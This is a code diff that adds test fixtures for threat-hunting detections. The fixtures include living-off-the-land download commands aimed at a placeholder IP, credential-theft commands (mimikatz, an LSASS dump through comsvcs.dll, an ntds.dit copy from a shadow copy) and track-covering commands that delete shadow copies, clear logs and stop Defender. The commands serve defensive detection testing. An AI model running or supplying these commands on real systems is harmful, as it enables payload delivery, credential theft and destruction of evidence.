@@ -1,11 +1,13 @@
 import {
   hashOf,
+  linuxCommands,
   linuxProcess,
   macProcess,
   removed,
   secondsAgo,
   timeAgo,
   times,
+  windowsCommands,
   windowsProcess,
 } from '../agent-lines.ts'
 import type { CannedCase } from '../canned-case.ts'
@@ -29,6 +31,40 @@ const bucket = Math.floor(secondsAgo(7200) / 600) * 600
 function burst(host: string, names: readonly string[]): readonly string[] {
   return names.map((name, nth) => windowsProcess({ host, ago: 1 }, { name, time: bucket + nth * 10 }))
 }
+
+const misuses = [
+  'certutil -verifyctl -f http://203.0.113.66/a a',
+  'certutil -decode a.txt a.exe',
+  'certutil /decodehex a.txt a.exe',
+  'bitsadmin /addfile j http://203.0.113.66/a C:\\a',
+  'bitsadmin /setnotifycmdline j C:\\a NULL',
+  'mshta javascript:close(new ActiveXObject("WScript.Shell"))',
+  'mshta vbscript:Execute("x")',
+  'regsvr32 /s /i:payload C:\\a.dll',
+  'rundll32 C:\\Windows\\System32\\comsvcs.dll, #24 640 a full',
+  'wmic os get /format:"https://203.0.113.66/a.xsl"',
+  'msiexec /q /package http://203.0.113.66/a.msi',
+]
+
+const thefts = [
+  'mimi sekurlsa::logonpasswords',
+  'mimi lsadump::sam',
+  'x C:\\mimikatz\\x64\\run',
+  'vssadmin create shadow /for=C:',
+  'copy \\\\?\\GLOBALROOT\\Device\\HarddiskVolumeShadowCopy1\\Windows\\NTDS\\ntds.dit C:\\a',
+  'lazagne.exe all',
+]
+
+const windowsTracks = [
+  'vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB',
+  'powershell Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}',
+  'wbadmin delete catalog -quiet',
+  'powershell Clear-EventLog -LogName System',
+  'fsutil usn deletejournal /D C:',
+  'sc stop WinDefend',
+]
+
+const linuxTracks = ['unset HISTFILE', 'journalctl --vacuum-time=1s', 'setenforce 0']
 
 export const huntingCases: readonly CannedCase[] = [
   {
@@ -84,6 +120,7 @@ export const huntingCases: readonly CannedCase[] = [
     code: 'living-off-the-land',
     reads: 'cmdline name parent_name sha256 time username',
     hits: [
+      ...windowsCommands(pc, misuses),
       windowsProcess(pc, { name: 'certutil.exe', cmdline: 'certutil -urlcache -f http://203.0.113.66/a.exe a.exe' }),
       windowsProcess(pc, { name: 'bitsadmin.exe', cmdline: 'bitsadmin /transfer j http://203.0.113.66/a C:\\a' }),
       windowsProcess(pc, { name: 'mshta.exe', cmdline: 'mshta http://203.0.113.66/a.hta' }),
@@ -101,6 +138,7 @@ export const huntingCases: readonly CannedCase[] = [
       windowsProcess(pc, { name: 'notepad.exe', cmdline: 'notepad certutil -urlcache' }),
     ],
     rows: [
+      ...misuses.map(cmdline => ({ cmdline })),
       { name: 'certutil.exe', finding: 'certutil fetches or decodes a file', hostname: 'PC-1' },
       { name: 'bitsadmin.exe', finding: 'bitsadmin fetches a file' },
       { name: 'mshta.exe', finding: 'mshta runs a script' },
@@ -192,6 +230,9 @@ export const huntingCases: readonly CannedCase[] = [
     code: 'programs-in-writable-folders',
     reads: 'cmdline name path sha256 time',
     hits: [
+      ...['C:\\Windows\\Temp\\k.exe', 'C:\\Users\\amara\\Downloads\\k.exe', 'C:\\PerfLogs\\k.exe'].map(path =>
+        windowsProcess(pc, { name: 'k.exe', path }),
+      ),
       windowsProcess(pc, { name: 'a.exe', path: 'C:\\Users\\Public\\a.exe' }),
       windowsProcess(pc, { name: 'b.exe', path: 'C:\\Users\\amara\\AppData\\Local\\Temp\\7z\\b.exe' }),
       windowsProcess(pc, { name: 'e.exe', path: 'C:\\$Recycle.Bin\\S-1-5\\e.exe' }),
@@ -206,6 +247,9 @@ export const huntingCases: readonly CannedCase[] = [
       macProcess(mac, { name: 'j', path: '/Applications/J.app/Contents/MacOS/j' }),
     ],
     rows: [
+      { path: 'C:\\Windows\\Temp\\k.exe' },
+      { path: 'C:\\Users\\amara\\Downloads\\k.exe' },
+      { path: 'C:\\PerfLogs\\k.exe' },
       { process_name: 'a.exe', hostnames: 'PC-1', executions: 1, first_seen: timeAgo(3600) },
       { process_name: 'b.exe' },
       { process_name: 'e.exe' },
@@ -222,6 +266,9 @@ export const huntingCases: readonly CannedCase[] = [
       windowsProcess(pc, { name: 'LSASS.EXE', path: 'C:\\Windows\\Temp\\System32\\lsass.exe' }),
     ],
     misses: [
+      windowsProcess(pc, { name: 'csrss.exe', path: '\\Device\\HarddiskVolume3\\Windows\\System32\\csrss.exe' }),
+      windowsProcess(pc, { name: 'svchost.exe', path: 'C:\\Windows\\WinSxS\\amd64_x\\svchost.exe' }),
+      windowsProcess(pc, { name: 'lsass.exe', path: '\\\\?\\C:\\Windows\\System32\\lsass.exe' }),
       windowsProcess(pc, { name: 'svchost.exe', path: 'c:\\windows\\system32\\svchost.exe' }),
       windowsProcess(pc, { name: 'dllhost.exe', path: 'C:\\Windows\\SysWOW64\\dllhost.exe' }),
       windowsProcess(pc, { name: 'smss.exe', path: '\\SystemRoot\\System32\\smss.exe' }),
@@ -264,6 +311,7 @@ export const huntingCases: readonly CannedCase[] = [
     code: 'credential-theft',
     reads: 'cmdline name sha256 time',
     hits: [
+      ...windowsCommands(pc, thefts),
       windowsProcess(pc, { name: 'procdump64.exe', cmdline: 'procdump64.exe -ma lsass.exe out.dmp' }),
       windowsProcess(pc, {
         name: 'rundll32.exe',
@@ -279,6 +327,7 @@ export const huntingCases: readonly CannedCase[] = [
       linuxProcess(linux, { name: 'cat', cmdline: 'cat /etc/passwd' }),
     ],
     rows: [
+      ...thefts.map(cmdline => ({ cmdline })),
       { hostname: 'PC-1', name: 'procdump64.exe', started_at: timeAgo(3600), sha256: hashOf('procdump64.exe') },
       { name: 'rundll32.exe' },
       { name: 'reg.exe' },
@@ -290,6 +339,8 @@ export const huntingCases: readonly CannedCase[] = [
     code: 'covered-tracks',
     reads: 'cmdline name sha256 time',
     hits: [
+      ...windowsCommands(pc, windowsTracks),
+      ...linuxCommands(linux, linuxTracks),
       windowsProcess(pc, { name: 'vssadmin.exe', cmdline: 'vssadmin.exe Delete Shadows /all /quiet' }),
       windowsProcess(pc, { name: 'wmic.exe', cmdline: 'wmic shadowcopy delete' }),
       windowsProcess(pc, { name: 'bcdedit.exe', cmdline: 'bcdedit /set {default} recoveryenabled No' }),
@@ -308,6 +359,8 @@ export const huntingCases: readonly CannedCase[] = [
       linuxProcess(linux, { name: 'journalctl', cmdline: 'journalctl -u ssh' }),
     ],
     rows: [
+      ...windowsTracks.map(cmdline => ({ cmdline })),
+      ...linuxTracks.map(cmdline => ({ cmdline })),
       { name: 'vssadmin.exe', hostname: 'PC-1', started_at: timeAgo(3600) },
       { name: 'wmic.exe' },
       { name: 'bcdedit.exe' },
